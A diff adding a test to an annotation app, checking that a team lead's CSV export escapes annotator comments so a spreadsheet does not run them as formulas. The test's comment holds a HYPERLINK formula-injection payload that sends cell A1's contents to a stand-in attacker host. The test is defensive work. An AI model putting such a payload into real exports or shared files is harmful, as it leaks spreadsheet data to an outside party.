@@ -112,3 +112,18 @@ def test_lead_dashboard_and_csv_keep_annotator_ids(world):
     assert str(world["amal"].pk) in annotators
     # the lead of ar-SA alone may not pause a campaign that also covers ja-JP
     assert client.post(f"/collect/lead/{world['campaign'].pk}/status/", {"to": "paused"}).status_code == 403
+
+
+def test_lead_csv_does_not_hand_a_comment_to_the_spreadsheet_as_a_formula(world):
+    """Issue 15, finding 12: an annotator's comment reaches the lead's spreadsheet as text."""
+    lead = f.member("locale_lead", world["ar"], username="lead-ar")
+    from parley.collection.services import task_claim_next, task_submit_judgment, task_submit_utterance
+
+    task_submit_utterance(task=task_claim_next(annotator=world["amal"]), annotator=world["amal"],
+                          annotated="أيقظني الساعة [time : الخامسة]")
+    task_submit_judgment(task=task_claim_next(annotator=world["badr"]), annotator=world["badr"], intent_score=2,
+                         slots_score=2, grammar_score=3, spelling_score=2, language_identification="target",
+                         comment='=HYPERLINK("http://evil.example/?"&A1,"more")')
+    text = login(lead).get(f"/collect/lead/{world['campaign'].pk}/export.csv").content.decode()
+    (row,) = csv.DictReader(io.StringIO(text))
+    assert row["comment"] == '\'=HYPERLINK("http://evil.example/?"&A1,"more")'
